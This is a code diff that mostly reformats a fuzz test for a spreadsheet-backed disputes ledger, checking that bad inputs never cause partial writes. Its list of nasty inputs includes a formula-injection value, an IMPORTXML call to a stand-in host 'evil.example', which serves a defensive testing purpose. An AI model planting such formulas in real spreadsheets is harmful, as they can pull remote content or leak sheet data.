@@ -22,7 +22,7 @@ import {NOTICE_KINDS} from "../../pack/core/notices";
 const NASTY = [
   "",
   " ",
-  "=IMPORTXML(\"https://evil.example\",\"//a\")",
+  '=IMPORTXML("https://evil.example","//a")',
   "+1",
   "-1",
   "@SUM(A1)",
@@ -58,7 +58,13 @@ const VOCABULARY: Record<string, string[]> = {
   assignee: ["me", "sam.specialist@tns.example", "lena.lead@tns.example"],
   label: ["Disputes"],
   phone: ["020 7946 0958", "+44 20 7946 0958", "55 1234 5678", "0049 30 901820"],
-  account: ["DE89370400440532013000", "de89 3704 0044 0532 0130 00", "032180000118359719", "4001234567", "GB29NWBK60161331926819"],
+  account: [
+    "DE89370400440532013000",
+    "de89 3704 0044 0532 0130 00",
+    "032180000118359719",
+    "4001234567",
+    "GB29NWBK60161331926819",
+  ],
   routingCode: ["011000015", "HDFC0000001", "60-16-13"],
   holderName: ["Ana Pérez", "PEREZ ANA"],
   sourceSheet: [],
@@ -68,7 +74,11 @@ const VOCABULARY: Record<string, string[]> = {
 const EXISTING: Record<string, string[]> = {disputeId: [], threadId: [], auditId: []};
 
 function stringFor(name: string, ledger: string, ids: string[]): fc.Arbitrary<string> {
-  const any = fc.oneof(fc.constantFrom(...NASTY), fc.string({maxLength: 40}), fc.string({unit: "grapheme", maxLength: 40}));
+  const any = fc.oneof(
+    fc.constantFrom(...NASTY),
+    fc.string({maxLength: 40}),
+    fc.string({unit: "grapheme", maxLength: 40}),
+  );
   const words = VOCABULARY[name];
   if (words?.length) {
     return fc.oneof({weight: 3, arbitrary: fc.constantFrom(...words)}, {weight: 1, arbitrary: any});
@@ -89,7 +99,11 @@ function stringFor(name: string, ledger: string, ids: string[]): fc.Arbitrary<st
   return any;
 }
 
-function arbitraryFor(param: {name: string; type: unknown; optional?: boolean}, ledger: string, ids: string[]): fc.Arbitrary<unknown> {
+function arbitraryFor(
+  param: {name: string; type: unknown; optional?: boolean},
+  ledger: string,
+  ids: string[],
+): fc.Arbitrary<unknown> {
   const t = param.type as coda.Type | {type: "array"; items: coda.Type};
   let base: fc.Arbitrary<unknown>;
   if (typeof t === "object") {
@@ -99,7 +113,10 @@ function arbitraryFor(param: {name: string; type: unknown; optional?: boolean}, 
   } else if (t === coda.Type.boolean) {
     base = fc.boolean();
   } else if (t === coda.Type.date) {
-    base = fc.oneof(fc.date({min: new Date("1900-01-01"), max: new Date("2100-01-01")}), fc.constant(new Date(Date.now() + 5 * 86_400_000)));
+    base = fc.oneof(
+      fc.date({min: new Date("1900-01-01"), max: new Date("2100-01-01")}),
+      fc.constant(new Date(Date.now() + 5 * 86_400_000)),
+    );
   } else {
     base = stringFor(param.name, ledger, ids);
   }
@@ -108,7 +125,10 @@ function arbitraryFor(param: {name: string; type: unknown; optional?: boolean}, 
 
 function snapshot(f: LedgerFixture): string {
   const book = f.emu.state.spreadsheets.get(f.spreadsheetId);
-  return JSON.stringify({sheets: book?.sheets.map((s) => [s.properties.title, s.rows]), named: [...(book?.namedRanges.keys() ?? [])].sort()});
+  return JSON.stringify({
+    sheets: book?.sheets.map((s) => [s.properties.title, s.rows]),
+    named: [...(book?.namedRanges.keys() ?? [])].sort(),
+  });
 }
 
 describe("fuzz: any arguments give a result or a UserVisibleError, never a partial write", function () {
@@ -116,17 +136,31 @@ describe("fuzz: any arguments give a result or a UserVisibleError, never a parti
   let ids: string[];
   before(async () => {
     f = await setupLedger();
-    const seeded = buildLedgerRecords(generateWorkforce({count: 40, now: new Date().toISOString(), seed: 5}), {specialists: [f.team.specialist.email], leads: [f.team.lead.email, f.team.lead2.email]});
+    const seeded = buildLedgerRecords(generateWorkforce({count: 40, now: new Date().toISOString(), seed: 5}), {
+      specialists: [f.team.specialist.email],
+      leads: [f.team.lead.email, f.team.lead2.email],
+    });
     writeLedgerRecords(f.emu.state, f.spreadsheetId, seeded);
     ids = seeded.workers.map((w) => w.workerId);
     grantGmail(f.team.lead, f.team.lead2, f.team.specialist, f.team.viewer, f.team.outsider);
     for (const [i, id] of ids.slice(0, 4).entries()) {
-      const d = await f.run.formula<{DisputeId: string}>("OpenDispute", [f.ledger, id, DISPUTE_CATEGORIES[i] ?? "Other", "Fuzz dispute"], f.team.specialist);
+      const d = await f.run.formula<{DisputeId: string}>(
+        "OpenDispute",
+        [f.ledger, id, DISPUTE_CATEGORIES[i] ?? "Other", "Fuzz dispute"],
+        f.team.specialist,
+      );
       EXISTING.disputeId?.push(d.DisputeId);
     }
     VOCABULARY.sourceSheet?.push(
       addSpreadsheet(f.emu, f.team.specialist.email, "Recruiting", [
-        {title: "Sheet1", rows: [["Name", "Email", "Country"], ["Fuzz One", "fuzz.one@example.org", "MX"], ["Fuzz Two", "fuzz.two@example.org", "IN"]]},
+        {
+          title: "Sheet1",
+          rows: [
+            ["Name", "Email", "Country"],
+            ["Fuzz One", "fuzz.one@example.org", "MX"],
+            ["Fuzz Two", "fuzz.two@example.org", "IN"],
+          ],
+        },
       ]),
     );
     await f.run.formula("ScheduleAudits", [f.ledger, 4], f.team.specialist);
@@ -134,7 +168,13 @@ describe("fuzz: any arguments give a result or a UserVisibleError, never a parti
     for (const [i, worker] of seeded.workers.slice(0, 4).entries()) {
       const m = gmailOf(f.emu.state).deliver(
         f.team.specialist.email,
-        workerMail({from: `${worker.name} <${worker.email}>`, to: f.team.specialist.email, subject: `Appeal ${i}`, body: "Please review.", messageId: `<fuzz-${i}@mail.example>`}),
+        workerMail({
+          from: `${worker.name} <${worker.email}>`,
+          to: f.team.specialist.email,
+          subject: `Appeal ${i}`,
+          body: "Please review.",
+          messageId: `<fuzz-${i}@mail.example>`,
+        }),
         {labels: ["INBOX", "Disputes"]},
       );
       EXISTING.threadId?.push(m.threadId);
@@ -157,32 +197,42 @@ describe("fuzz: any arguments give a result or a UserVisibleError, never a parti
       let refused = 0;
       let ruled = 0;
       await fc.assert(
-        fc.asyncProperty(fc.tuple(...callable.parameters.map((p) => arbitraryFor(p as never, f.ledger, ids))), fc.constantFrom(...people), async (args, user) => {
-          const before = snapshot(f);
-          try {
-            if (callable.sync) {
-              await f.run.syncPage(callable.name, args, user);
-            } else {
-              await f.run.formula(callable.name, args, user);
+        fc.asyncProperty(
+          fc.tuple(...callable.parameters.map((p) => arbitraryFor(p as never, f.ledger, ids))),
+          fc.constantFrom(...people),
+          async (args, user) => {
+            const before = snapshot(f);
+            try {
+              if (callable.sync) {
+                await f.run.syncPage(callable.name, args, user);
+              } else {
+                await f.run.formula(callable.name, args, user);
+              }
+              ok++;
+            } catch (err) {
+              refused++;
+              ruled += /\(rule: /.test((err as Error).message) ? 1 : 0;
+              if (process.env.FUZZ_DEBUG) {
+                console.log(callable.name, (err as Error).message.slice(0, 200));
+              }
+              const e = err as Error & {isUserVisible?: boolean};
+              const acceptable = e.isUserVisible === true || e.name === "MissingScopesError";
+              expect(
+                acceptable,
+                `${callable.name}(${JSON.stringify(args).slice(0, 300)}) as ${user.email} threw ${e.name}: ${e.message}\n${e.stack ?? ""}`,
+              ).to.equal(true);
+              expect(snapshot(f), `${callable.name} failed but changed the ledger`).to.equal(before);
             }
-            ok++;
-          } catch (err) {
-            refused++;
-            ruled += /\(rule: /.test((err as Error).message) ? 1 : 0;
-            if (process.env.FUZZ_DEBUG) {
-              console.log(callable.name, (err as Error).message.slice(0, 200));
-            }
-            const e = err as Error & {isUserVisible?: boolean};
-            const acceptable = e.isUserVisible === true || e.name === "MissingScopesError";
-            expect(acceptable, `${callable.name}(${JSON.stringify(args).slice(0, 300)}) as ${user.email} threw ${e.name}: ${e.message}\n${e.stack ?? ""}`).to.equal(true);
-            expect(snapshot(f), `${callable.name} failed but changed the ledger`).to.equal(before);
-          }
-        }),
+          },
+        ),
         {numRuns: 25, seed: 20261125},
       );
       // The runs must reach past input checks into the decisions, or the fuzz proves little.
       expect(ok + refused).to.equal(25);
-      expect(ok + ruled, `${callable.name}: no call reached a decision (${refused} refused on input)`).to.be.greaterThan(0);
+      expect(
+        ok + ruled,
+        `${callable.name}: no call reached a decision (${refused} refused on input)`,
+      ).to.be.greaterThan(0);
     });
   }
 });
